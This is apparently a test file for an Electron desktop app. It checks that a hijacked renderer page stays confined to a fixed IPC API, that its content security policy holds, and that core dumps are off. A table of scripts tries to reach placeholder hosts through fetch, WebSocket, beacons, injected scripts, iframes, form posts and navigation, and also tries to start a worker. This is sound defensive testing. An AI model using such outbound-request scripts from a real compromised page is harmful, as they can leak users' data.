/** @file What a page that has been taken over can do in the app as it is built: nothing. */
import { readFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchApp, makeDataDir, type TestApp } from '../support/driver.ts';
import type { WindowApi } from '../../shared/ipc/window-api.ts';

declare global {
  interface Window {
    readonly api: WindowApi;
    violations: string[];
  }
}

let dataDir: string;
let app: TestApp;
beforeAll(async () => {
  dataDir = await makeDataDir();
  app = await launchApp({ dataDir });
});
afterAll(async () => {
  await app.close();
  await rm(dataDir, { recursive: true, force: true });
});

const refused = () => app.page.evaluate(async () => (await window.api.getInfo()).refusedRequests);

test('the window can do what is written down and no more', async () => {
  const members = await app.page.evaluate(() =>
    Object.entries(window.api).map(([name, value]) => `${name}: ${typeof value}`),
  );
  expect(members.sort()).toEqual([
    'actOnCompanion: function',
    'actOnSight: function',
    'cancelReport: function',
    'chooseFolder: function',
    'copyPicture: function',
    'copyReportFile: function',
    'deleteSpan: function',
    'editSpan: function',
    'eraseData: function',
    'exportRules: function',
    'findData: function',
    'getActions: function',
    'getAutostart: function',
    'getCompanion: function',
    'getDay: function',
    'getExampleDay: function',
    'getExampleTrends: function',
    'getExampleWeek: function',
    'getHolidayCountries: function',
    'getHolidays: function',
    'getInfo: function',
    'getNote: function',
    'getNotes: function',
    'getPrivacy: function',
    'getReviewDue: function',
    'getSettings: function',
    'getSight: function',
    'getTrackerStatus: function',
    'getTrends: function',
    'getUndos: function',
    'getWeek: function',
    'importGuideline: function',
    'importRules: function',
    'labelTimed: function',
    'leave: function',
    'makeReport: function',
    'moveData: function',
    'offerRule: function',
    'onCompanionChanged: function',
    'onHistoryProgress: function',
    'onOpenPage: function',
    'onReportProgress: function',
    'onRest: function',
    'onSettingsChanged: function',
    'onSightChanged: function',
    'onSpansChanged: function',
    'onTrackerChanged: function',
    'onUndosChanged: function',
    'openEverything: function',
    'openHistory: function',
    'pause: function',
    'planCalendar: function',
    'previewAgreements: function',
    'proposeBlock: function',
    'relabelSpan: function',
    'resume: function',
    'saveCalendar: function',
    'saveEverything: function',
    'saveGuideline: function',
    'savePicture: function',
    'saveReport: function',
    'saveReportFile: function',
    'saveReportPdf: function',
    'setAutostart: function',
    'setNote: function',
    'setSettings: function',
    'startTimer: function',
    'stopHistory: function',
    'stopTimer: function',
    'takeEverything: function',
    'takeHistory: function',
    'takePlace: function',
    'takeUndo: function',
    'tryRules: function',
    'watchWindows: function',
    'zoneStretches: function',
  ]);
});

test('a refused call rejects with a code and a sentence', async () => {
  const failure = await app.page.evaluate(() =>
    window.api.getDay('no date').then(
      () => 'no failure',
      (error: unknown) => error,
    ),
  );
  expect(failure).toEqual({
    name: 'invalid-args',
    message: 'The request is not one that the app knows.',
  });
});

test('an honest tour breaks no rule of the policy and refuses nothing', async () => {
  await app.page.addInitScript(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  const loaded = app.page.waitForEvent('load');
  await app.evaluate(({ BrowserWindow }) => {
    BrowserWindow.getAllWindows()[0]?.webContents.reload();
  });
  await loaded;
  const links = app.page.getByRole('navigation').getByRole('button');
  await links.first().waitFor();
  for (const link of await links.all()) {
    await link.click();
    await app.page.getByRole('heading', { level: 1 }).waitFor();
  }
  expect(await app.page.evaluate(() => window.violations)).toEqual([]);
  expect(await refused()).toBe(0);
});

test.runIf(process.platform === 'linux')('the system writes no core dump of the app', async () => {
  const limits = () => readFileSync(`/proc/${app.pid}/limits`, 'utf8');
  // Soft and hard: it cannot be raised again.
  await expect.poll(limits).toMatch(/^Max core file size +0 +0 /m);
});

/** What a page could try, each as the text of a script. */
const ATTEMPTS = {
  fetch: `void fetch('https://a.example/').catch(() => {})`,
  'fetch without CORS': `void fetch('https://b.example/', { mode: 'no-cors' }).catch(() => {})`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', 'https://c.example/'); x.send()`,
  WebSocket: `new WebSocket('wss://d.example/')`,
  EventSource: `new EventSource('https://e.example/')`,
  beacon: `navigator.sendBeacon('https://f.example/', 'x')`,
  image: `new Image().src = 'https://g.example/x.png'`,
  'address in the page': `new Image().src = 'http://192.0.2.1/x.png'`,
  stylesheet: `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://h.example/x.css' }))`,
  script: `document.head.append(Object.assign(document.createElement('script'), { src: 'https://i.example/x.js' }))`,
  frame: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://j.example/' }))`,
  form: `const f = Object.assign(document.createElement('form'), { action: 'https://k.example/', method: 'post' }); document.body.append(f); f.submit()`,
  navigation: `location.assign('https://l.example/')`,
  'new window': `window.open('https://m.example/')`,
  link: `const a = Object.assign(document.createElement('a'), { href: 'https://n.example/', target: '_blank' }); document.body.append(a); a.click()`,
} as const;

test.each(Object.entries(ATTEMPTS))('%s: refused, and counted', async (_name, script) => {
  const { page } = app;
  const url = page.url();
  const before = await refused();
  await page
    .evaluate((text) => {
      // A test's own script is exempt from the policy on eval, what it does is not.
      Reflect.apply(Reflect.construct(Function, [text]), undefined, []);
    }, script)
    .catch(() => undefined);
  await expect.poll(refused).toBeGreaterThan(before);
  expect(page.url()).toBe(url);
  expect(await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(1);
});

test('no worker starts, which would be a page without a preload', async () => {
  const started = await app.page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          resolve(event.effectiveDirective);
        });
        const source = new Blob(['postMessage("started")'], { type: 'text/javascript' });
        const worker = new Worker(URL.createObjectURL(source));
        worker.onmessage = () => {
          resolve('started');
        };
      }),
  );
  expect(started).toBe('worker-src');
});
